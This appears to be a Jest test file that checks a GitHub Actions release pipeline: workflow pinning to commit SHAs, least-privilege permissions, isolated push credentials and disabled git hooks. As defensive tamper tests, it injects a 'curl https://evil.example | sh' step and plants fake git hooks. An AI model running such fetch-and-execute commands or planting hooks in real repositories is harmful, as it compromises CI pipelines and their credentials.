// The release flow (docs/releases.md): the pin script rewrites the real rotate.yml so that the
// action and the alert run at the released commit, and release.yml runs on version tags, pins,
// and moves the version and major tags to the release commit.
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import { parse } from 'yaml'
import { checkPinned, majorTag, pinWorkflow, PinError } from '../scripts/release/pin-workflow.js'

const root = new URL('../', import.meta.url)
const read = (path: string): string => readFileSync(new URL(path, root), 'utf8')

const REPOSITORY = 'meta-token-rotator/meta-token-rotator'
const SHA = '0123456789abcdef0123456789abcdef01234567'
const VERSION = 'v1.2.3'
const rotateYml = read('.github/workflows/rotate.yml')
const options = { repository: REPOSITORY, sha: SHA, version: VERSION }

// Every `uses:` line of this repository's own actions, as [line index, target].
const ownUses = (text: string): Array<[number, string]> =>
  text
    .split('\n')
    .map((line, index): [number, string] => [index, line])
    .filter(([, line]) => /^\s*(?:-\s+)?uses:\s*meta-token-rotator\/meta-token-rotator[/@]/.test(line))
    .map(([index, line]) => [index, line.replace(/^\s*(?:-\s+)?uses:\s*/, '')])

describe('pinWorkflow on the real rotate.yml', () => {
  const { text, pinned } = pinWorkflow(rotateYml, options)

  test('main calls the action and the alert at the moving major tag', () => {
    expect(ownUses(rotateYml).map(([, target]) => target)).toEqual([
      'meta-token-rotator/meta-token-rotator@v1',
      'meta-token-rotator/meta-token-rotator/alert@v1'
    ])
  })

  test('every own uses: ends up at the SHA with the # vX.Y.Z comment', () => {
    expect(ownUses(text).map(([, target]) => target)).toEqual([
      `meta-token-rotator/meta-token-rotator@${SHA} # ${VERSION}`,
      `meta-token-rotator/meta-token-rotator/alert@${SHA} # ${VERSION}`
    ])
    expect(pinned).toHaveLength(2)
  })

  test('nothing else in the file changes', () => {
    const before = rotateYml.split('\n')
    const after = text.split('\n')
    expect(after).toHaveLength(before.length)
    const changed = after.flatMap((line, index) => (line === before[index] ? [] : [index]))
    expect(changed).toEqual(ownUses(rotateYml).map(([index]) => index))
    // Each changed line keeps its indentation and its `- uses:` / `uses:` key.
    for (const index of changed) {
      const key = /^\s*(?:-\s+)?uses:\s*/
      expect(key.exec(after[index] ?? '')?.[0]).toBe(key.exec(before[index] ?? '')?.[0])
    }
  })

  test('the pinned file is still the same workflow, with only those two uses: different', () => {
    type Step = { uses?: string }
    type Doc = { jobs: Record<string, { steps: Step[] }> }
    const a = parse(rotateYml) as Doc
    const b = parse(text) as Doc
    for (const doc of [a, b])
      for (const job of Object.values(doc.jobs))
        for (const step of job.steps) if (step.uses?.startsWith(REPOSITORY)) step.uses = '(own)'
    expect(b).toEqual(a)
    // YAML reads the value without the comment.
    expect((parse(text) as Doc).jobs.rotate?.steps[1]?.uses).toBe(`${REPOSITORY}@${SHA}`)
  })

  test('is idempotent, and a re-pin moves every own uses: to the new SHA', () => {
    expect(pinWorkflow(text, options).text).toBe(text)
    const next = pinWorkflow(text, { ...options, sha: 'f'.repeat(40), version: 'v1.2.4' }).text
    expect(checkPinned(next, { repository: REPOSITORY, sha: 'f'.repeat(40), version: 'v1.2.4' })).toEqual([])
  })

  test('--check: the pinned file passes, main does not', () => {
    expect(checkPinned(text, { repository: REPOSITORY })).toEqual([])
    expect(checkPinned(text, { repository: REPOSITORY, sha: SHA, version: VERSION })).toEqual([])
    expect(checkPinned(text, { repository: REPOSITORY, sha: 'a'.repeat(40) })).toHaveLength(2)
    expect(checkPinned(text, { repository: REPOSITORY, version: 'v1.2.4' })).toHaveLength(2)
    expect(checkPinned(rotateYml, { repository: REPOSITORY }).join('\n')).toMatch(/not pinned to a full commit SHA/)
  })

  test('matches the repository whatever its case, and no other repository', () => {
    expect(
      pinWorkflow(rotateYml, { ...options, repository: 'Meta-Token-Rotator/Meta-Token-Rotator' }).pinned
    ).toHaveLength(2)
    expect(() => pinWorkflow(rotateYml, { ...options, repository: 'meta-token-rotator/meta-token' })).toThrow(
      /found no/
    )
    const lookalike = 'steps:\n  - uses: meta-token-rotator/meta-token-rotator-fork@v1\n'
    expect(() => pinWorkflow(lookalike, options)).toThrow(PinError)
  })

  test('keeps quotes and replaces an old trailing comment', () => {
    const quoted = "    - uses: 'meta-token-rotator/meta-token-rotator/alert@v1' # moving tag\n"
    expect(pinWorkflow(quoted, options).text).toBe(
      `    - uses: 'meta-token-rotator/meta-token-rotator/alert@${SHA}' # ${VERSION}\n`
    )
  })
})

describe('pinWorkflow refuses', () => {
  test.each([
    ['a short SHA', { sha: SHA.slice(0, 7) }],
    ['a 41-character SHA', { sha: `${SHA}0` }],
    ['an upper-case SHA', { sha: SHA.toUpperCase() }],
    ['a branch name', { sha: 'main' }],
    ['a SHA with a non-hex character', { sha: `${SHA.slice(0, 39)}g` }],
    ['a version without v', { version: '1.2.3' }],
    ['a two-part version', { version: 'v1.2' }],
    ['a pre-release', { version: 'v1.2.3-rc.1' }],
    ['a leading zero', { version: 'v01.2.3' }],
    ['a major tag', { version: 'v1' }],
    ['a repository that is not owner/name', { repository: 'meta-token-rotator' }]
  ])('%s', (_what, bad) => {
    expect(() => pinWorkflow(rotateYml, { ...options, ...bad })).toThrow(PinError)
  })

  test('a file with nothing to pin', () => {
    expect(() => pinWorkflow(read('.github/workflows/ci.yml'), options)).toThrow(/found no/)
    expect(checkPinned(read('.github/workflows/ci.yml'), { repository: REPOSITORY })).toEqual([
      `found no 'uses: ${REPOSITORY}@…' or 'uses: ${REPOSITORY}/…@…'`
    ])
  })

  test('majorTag', () => {
    expect(majorTag('v1.2.3')).toBe('v1')
    expect(majorTag('v0.10.0')).toBe('v0')
    expect(() => majorTag('v1.2')).toThrow(PinError)
  })
})

describe('release.yml', () => {
  type Step = {
    name?: string
    id?: string
    if?: string
    uses?: string
    run?: string
    env?: Record<string, string>
    with?: Record<string, unknown>
  }
  type Job = {
    if?: string
    needs?: string
    environment?: string
    permissions?: unknown
    outputs?: Record<string, string>
    steps: Step[]
  }
  const text = read('.github/workflows/release.yml')
  const doc = parse(text) as {
    on: Record<string, { tags?: string[]; branches?: string[] } | null>
    permissions: unknown
    jobs: Record<string, Job>
  }
  const { prepare, publish } = doc.jobs
  if (!prepare || !publish) throw new Error('release.yml: jobs "prepare" and "publish" are expected')
  const scriptsOf = (job: Job): string => job.steps.map((step) => step.run ?? '').join('\n')
  const scripts = `${scriptsOf(prepare)}\n${scriptsOf(publish)}`

  test('runs on pushed version tags only', () => {
    expect(Object.keys(doc.on)).toEqual(['push'])
    expect(doc.on.push).toEqual({ tags: ['v*.*.*'] })
    // The glob also matches v1.2.3-rc.1 or vx.y.z: the first step refuses anything but vX.Y.Z.
    expect(prepare.steps[0]?.run).toContain('^v(0|[1-9][0-9]*)\\.(0|[1-9][0-9]*)\\.(0|[1-9][0-9]*)$')
  })

  test('never runs on a fork; contents: read where the project runs, write only where it publishes', () => {
    expect(prepare.if).toContain('github.event.repository.fork == false')
    expect(publish.needs).toBe('prepare')
    expect(doc.permissions).toEqual({})
    expect(prepare.permissions).toEqual({ contents: 'read' })
    expect(publish.permissions).toEqual({ contents: 'write' })
  })

  test('checks the version, runs CI and pins rotate.yml to the tagged commit in prepare', () => {
    const prepared = scriptsOf(prepare)
    expect(prepared).toContain('require("./package.json").version')
    expect(prepared).toContain('bash .ci/run')
    expect(prepared).toMatch(/release:pin -- --repository "\$GITHUB_REPOSITORY" --sha "\$c1" --version "\$TAG"/)
    expect(prepared).toMatch(/release:pin -- --check/)
    expect(scriptsOf(publish)).toMatch(/commit --quiet --no-verify[^\n]*\n[^]*-- \.github\/workflows\/rotate\.yml/)
  })

  test('moves vX.Y.Z and the major tag to the release commit and pushes both', () => {
    expect(scripts).toContain('major=${TAG%%.*}')
    expect(scripts).toMatch(/tag --force --annotate --message "\$TAG" "\$TAG" "\$C2"/)
    expect(scripts).toMatch(/tag --force "\$major" "\$C2"/)
    expect(scripts).toMatch(/push --no-verify --atomic "\$\{leases\[@\]\}" origin "\$\{refs\[@\]\}"/)
    expect(scripts).toMatch(/gh release create "\$TAG" [^\n]*--generate-notes/)
  })

  test('names no repository: it releases the one it runs in', () => {
    expect(text).not.toMatch(/meta-token-rotator\//)
    expect(scripts).toContain('$GITHUB_REPOSITORY')
  })

  test('checks out without persisted credentials, in both jobs', () => {
    for (const job of [prepare, publish]) {
      const checkout = job.steps.find((step) => step.uses?.startsWith('actions/checkout@'))
      expect(checkout?.with?.['persist-credentials']).toBe(false)
    }
  })

  // The push token must never share a job with the project's code: npm ci runs every dependency's
  // install scripts, the tests run everything, and either could plant a git hook the push would run.
  describe('the push credentials live in a job that runs nothing of the project', () => {
    const credentials = /secrets\.RELEASE_|steps\.app-token\.outputs\.token|environment: release/

    test('prepare holds no secret and no environment', () => {
      expect(prepare.environment).toBeUndefined()
      expect(JSON.stringify(prepare)).not.toMatch(/secrets\.|app-token/)
    })

    test('publish holds them, and installs, builds or runs nothing of the project', () => {
      expect(publish.environment).toBe('release')
      expect(JSON.stringify(publish)).toMatch(credentials)
      const uses = publish.steps.flatMap((step) => (step.uses ? [step.uses.replace(/@.*/, '')] : []))
      expect(uses.sort()).toEqual(['actions/checkout', 'actions/create-github-app-token'])
      for (const step of publish.steps) {
        const run = step.run ?? ''
        expect(run).not.toMatch(/\b(npm|npx|node|yarn|pnpm|corepack|make)\b|\.ci\/|\bbash\s|\bsh\s|\.\/|source\s/)
      }
    })

    test('every git command that can run a hook in publish disables hooks', () => {
      const commands = scriptsOf(publish)
        .replace(/\\\n\s*/g, ' ')
        .split('\n')
        .filter((line) => /^\s*git\s/.test(line) && /\s(commit|push|tag|merge|checkout|rebase|am)\s/.test(line))
      expect(commands.length).toBeGreaterThanOrEqual(4)
      for (const command of commands) expect(command).toContain('-c core.hooksPath=/dev/null')
    })
  })

  describe("publish's release commit, run as the runner runs it against a local repository", () => {
    const step = publish.steps.find((s) => s.id === 'commit')
    if (!step?.run) throw new Error('release.yml: publish has no step with id commit')
    const script = step.run
    const C1_FILE = '.github/workflows/rotate.yml'

    function repository(): { dir: string; c1: string; git: (...args: string[]) => string } {
      const dir = mkdtempSync(join(tmpdir(), 'release-'))
      const git = (...args: string[]): string =>
        execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd: dir }).toString()
      git('init', '--quiet')
      mkdirSync(join(dir, '.github/workflows'), { recursive: true })
      writeFileSync(join(dir, C1_FILE), rotateYml)
      git('add', '.')
      git('commit', '--quiet', '-m', 'C1')
      // What code run earlier could plant: hooks that would see the push and the commit.
      for (const hook of ['pre-commit', 'commit-msg', 'pre-push']) {
        writeFileSync(join(dir, '.git/hooks', hook), `#!/bin/sh\necho ran >"${dir}-hook-ran"\n`, {
          mode: 0o755
        })
      }
      return { dir, c1: git('rev-parse', 'HEAD').trim(), git }
    }

    function runStep(dir: string, c1: string, rotate: string): { code: number; stderr: string; output: string } {
      const output = join(`${dir}-runner`, 'github-output')
      mkdirSync(`${dir}-runner`, { recursive: true })
      writeFileSync(output, '')
      const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
        cwd: dir,
        env: {
          PATH: process.env.PATH,
          HOME: dir,
          GITHUB_REPOSITORY: REPOSITORY,
          GITHUB_OUTPUT: output,
          TAG: VERSION,
          C1: c1,
          ROTATE_YML: Buffer.from(rotate).toString('base64')
        }
      })
      return { code: run.status ?? -1, stderr: run.stderr.toString(), output: readFileSync(output, 'utf8') }
    }

    test('the pinned rotate.yml becomes the release commit, with its trailer, and no hook runs', () => {
      const { dir, git } = repository()
      const c1 = git('rev-parse', 'HEAD').trim()
      const pinned = pinWorkflow(rotateYml, { ...options, sha: c1 }).text
      const result = runStep(dir, c1, pinned)
      expect(result.stderr).toBe('')
      expect(result.code).toBe(0)
      expect(git('log', '-1', '--format=%(trailers:key=Release-of,valueonly)').trim()).toBe(c1)
      expect(git('diff', '--name-only', 'HEAD^', 'HEAD').trim()).toBe(C1_FILE)
      expect(result.output).toBe(`c2=${git('rev-parse', 'HEAD').trim()}\n`)
      expect(existsSync(`${dir}-hook-ran`)).toBe(false)
    })

    test.each([
      ['a step added beside the pins', (t: string) => `${t}\n      - run: curl https://evil.example | sh\n`],
      ['a pin to another repository', (t: string) => t.replace(`uses: ${REPOSITORY}/alert@`, 'uses: evil/actions@')],
      [
        'a pin to another commit',
        (t: string, c1: string) => t.replace(`@${c1} # ${VERSION}`, `@${'f'.repeat(40)} # ${VERSION}`)
      ],
      ['nothing pinned', () => rotateYml]
    ])('%s: refused, nothing committed', (_name, tamper) => {
      const { dir, c1, git } = repository()
      const pinned = pinWorkflow(rotateYml, { ...options, sha: c1 }).text
      const result = runStep(dir, c1, tamper(pinned, c1))
      expect(result.code).not.toBe(0)
      expect(result.stderr).toMatch(/pinned rotate\.yml|must change/)
      expect(git('rev-parse', 'HEAD').trim()).toBe(c1)
      expect(result.output).toBe('')
    })

    test('a tag moved since prepare: refused, nothing committed', () => {
      const { dir, c1, git } = repository()
      const result = runStep(dir, 'e'.repeat(40), pinWorkflow(rotateYml, { ...options, sha: c1 }).text)
      expect(result.code).not.toBe(0)
      expect(result.stderr).toMatch(/moved while the release was prepared/)
      expect(git('rev-parse', 'HEAD').trim()).toBe(c1)
    })
  })
})
